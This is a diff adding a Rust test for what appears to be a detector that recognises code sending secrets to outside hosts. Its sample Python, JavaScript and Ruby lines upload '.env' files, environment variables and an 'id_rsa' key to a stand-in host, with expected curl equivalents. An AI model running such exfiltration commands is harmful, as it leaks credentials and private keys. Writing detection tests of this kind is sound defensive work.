@@ -493,3 +493,48 @@ fn decoded_code_that_is_run_is_found() {
         assert_eq!(lines(language, code) == "base64 --decode | sh", is_run, "{code}");
     }
 }
+
+#[test]
+fn files_and_environment_that_code_sends_are_found() {
+    use Language::{JavaScript, Python, Ruby};
+    for (language, code, expected) in [
+        (
+            Python,
+            "requests.post('https://x.io/u', files={'f': open('.env', 'rb')})",
+            "curl -T '.env' 'https://x.io/u'",
+        ),
+        (
+            Python,
+            "requests.post(url, json=dict(os.environ))",
+            "env | curl -d @- 'https://$_'",
+        ),
+        (
+            Python,
+            "requests.post('http://localhost:1/x', json={'a': os.environ['A']})",
+            "",
+        ),
+        (Python, "requests.get('https://x.io/u'); open('.env').read()", ""),
+        (
+            JavaScript,
+            "fetch('https://x.io', {method: 'POST', body: JSON.stringify(process.env)})",
+            "env | curl -d @- 'https://x.io'",
+        ),
+        (
+            JavaScript,
+            "await axios.post('https://x.io', fs.readFileSync('id_rsa'))",
+            "curl -T 'id_rsa' 'https://x.io'",
+        ),
+        (
+            JavaScript,
+            "fetch(process.env.URL, {headers: {a: process.env.KEY}})",
+            "",
+        ),
+        (
+            Ruby,
+            "Net::HTTP.post(URI('https://x.io'), File.read('.env'))",
+            "curl -T '.env' 'https://$_'",
+        ),
+    ] {
+        assert_eq!(lines(language, code), expected, "{code}");
+    }
+}
